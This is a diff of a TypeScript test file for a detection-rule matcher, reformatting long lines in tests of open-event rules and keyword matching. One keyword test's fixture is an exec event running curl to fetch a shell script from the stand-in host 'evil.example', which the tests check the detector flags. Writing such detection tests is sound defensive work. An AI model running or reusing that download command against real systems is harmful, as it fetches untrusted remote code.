@@ -5,7 +5,11 @@ import { CTX, NATIVE, compileError, event, matcher } from './helpers.js';
 /** A native `open` rule with one item on `event.open.<field>`; returns a tester over payload values. */
 function on(key: string, value: unknown, placeholders?: Record<string, string[]>) {
   const [f, ...mods] = key.split('|');
-  const m = matcher({ sel: { [['event.open.' + f, ...mods].join('|')]: value }, condition: 'sel' }, NATIVE('open'), placeholders);
+  const m = matcher(
+    { sel: { [['event.open.' + f, ...mods].join('|')]: value }, condition: 'sel' },
+    NATIVE('open'),
+    placeholders,
+  );
   return (fieldValue: unknown) => m(event('open', fieldValue === undefined ? {} : { [f]: fieldValue }));
 }
 
@@ -194,7 +198,10 @@ describe('list-valued fields', () => {
 describe('keywords', () => {
   const kw = (values: unknown, key?: string) =>
     matcher({ keywords: key ? { [key]: values } : values, condition: 'keywords' }, NATIVE('exec'));
-  const ev = event('exec', { args: ['/usr/bin/curl', '-sL', 'http://evil.example/x.sh'], target: { executable: { path: '/usr/bin/curl' } } });
+  const ev = event('exec', {
+    args: ['/usr/bin/curl', '-sL', 'http://evil.example/x.sh'],
+    target: { executable: { path: '/usr/bin/curl' } },
+  });
   it('search every string of the event as a substring', () => {
     expect(kw(['evil.example'])(ev)).toBe(true);
     expect(kw(['usr/bin/cu'])(ev)).toBe(true);
@@ -214,7 +221,11 @@ describe('keywords', () => {
     expect(kw(['http://*.example/*'])(ev)).toBe(true);
   });
   it('are reported in info', () => {
-    const d = compileDetection({ detection: { keywords: ['a', 'b'], condition: 'keywords' }, logsource: NATIVE('exec'), fieldMapping: null });
+    const d = compileDetection({
+      detection: { keywords: ['a', 'b'], condition: 'keywords' },
+      logsource: NATIVE('exec'),
+      fieldMapping: null,
+    });
     expect(d.info.keywords).toEqual([{ selection: 'keywords', values: ['a', 'b'], all: false }]);
     expect(d.match(event('exec', { args: ['xa'] }), CTX)).toBe(true);
   });
